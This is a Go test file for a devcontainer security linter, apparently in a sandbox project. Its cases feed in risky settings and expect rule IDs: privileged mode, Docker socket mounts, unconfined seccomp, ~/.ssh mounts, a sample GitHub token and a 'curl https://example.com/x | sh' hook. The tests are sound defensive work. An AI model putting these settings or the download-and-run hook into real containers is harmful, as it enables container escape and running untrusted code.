package lint_test

import (
	"strings"
	"testing"

	"github.com/org/claude-sandbox/devcontainer"
)

// A Feature's metadata is judged where it is published, too: whoever uses it gets
// these rights without seeing them.
func TestFeatureAloneIsJudgedByItsRights(t *testing.T) {
	for name, c := range map[string]struct{ property, want string }{
		"privileged":           {`"privileged": true`, "SBX402"},
		"capability":           {`"capAdd": ["CAP_SYS_ADMIN"]`, "SBX403"},
		"unconfined":           {`"securityOpt": ["seccomp=unconfined"]`, "SBX405"},
		"engine":               {`"mounts": [{"type": "bind", "source": "/var/run/docker.sock", "target": "/d"}]`, "SBX401"},
		"engine by a variable": {`"containerEnv": {"DOCKER_HOST": "tcp://host:2375"}`, "SBX401"},
		"home folder":          {`"mounts": [{"type": "bind", "source": "${localEnv:HOME}/.ssh", "target": "/s"}]`, "SBX407"},
		"X server":             {`"mounts": [{"type": "bind", "source": "/tmp/.X11-unix", "target": "/tmp/.X11-unix"}]`, "SBX417"},
		"key":                  {`"containerEnv": {"GH": "ghp_0123456789abcdefghijABCDEFGHIJ012345"}`, "SBX501"},
		"download":             {`"postCreateCommand": "curl https://example.com/x | sh"`, "SBX608"},
		"our own":              {`"capAdd": ["NET_ADMIN"], "securityOpt": ["no-new-privileges"]`, ""},
		"no boolean":           {`"privileged": "true"`, "SBX301"},
	} {
		t.Run(name, func(t *testing.T) {
			found := ids(t, devcontainer.Memory{"src/a/install.sh": "",
				"src/a/devcontainer-feature.json": `{"id": "a", "version": "1.0.0", ` + c.property + `}`})
			if found != c.want {
				t.Errorf("found %q, want %q", found, c.want)
			}
		})
	}
}

// The same right in a notation that a rule did not look at before the list had it.
func TestRightsOfDockerfilesAndHooks(t *testing.T) {
	for name, c := range map[string]struct {
		files devcontainer.Memory
		want  string
	}{
		"the engine by ENV": {devcontainer.Memory{".devcontainer/devcontainer.json": `{"build": {"dockerfile": "Dockerfile"}, "remoteUser": "1000"}`,
			".devcontainer/Dockerfile": "FROM debian:13@sha256:0\nENV DOCKER_HOST=tcp://host:2375\n"}, "SBX401"},
		"an empty ENV": {devcontainer.Memory{".devcontainer/devcontainer.json": `{"build": {"dockerfile": "Dockerfile"}, "remoteUser": "1000"}`,
			".devcontainer/Dockerfile": "FROM debian:13@sha256:0\nENV DOCKER_HOST=\n"}, ""},
		"a stage that is left behind": {devcontainer.Memory{".devcontainer/devcontainer.json": `{"build": {"dockerfile": "Dockerfile"}, "remoteUser": "1000"}`,
			".devcontainer/Dockerfile": "FROM debian:13@sha256:0 AS a\nENV DOCKER_HOST=tcp://host:2375\nFROM debian:13@sha256:0\n"}, ""},
		"a Feature's hook": {devcontainer.Memory{".devcontainer/devcontainer.json": `{"image": "debian:13@sha256:` + strings.Repeat("0", 64) + `", "features": {"./a": {}}}`,
			".devcontainer/a/devcontainer-feature.json": `{"id": "a", "version": "1.0.0", "postCreateCommand": "curl https://example.com/x | sh"}`,
			".devcontainer/a/install.sh":                ""}, "SBX608"},
	} {
		t.Run(name, func(t *testing.T) {
			if found := ids(t, c.files); found != c.want {
				t.Errorf("found %q, want %q", found, c.want)
			}
		})
	}
}
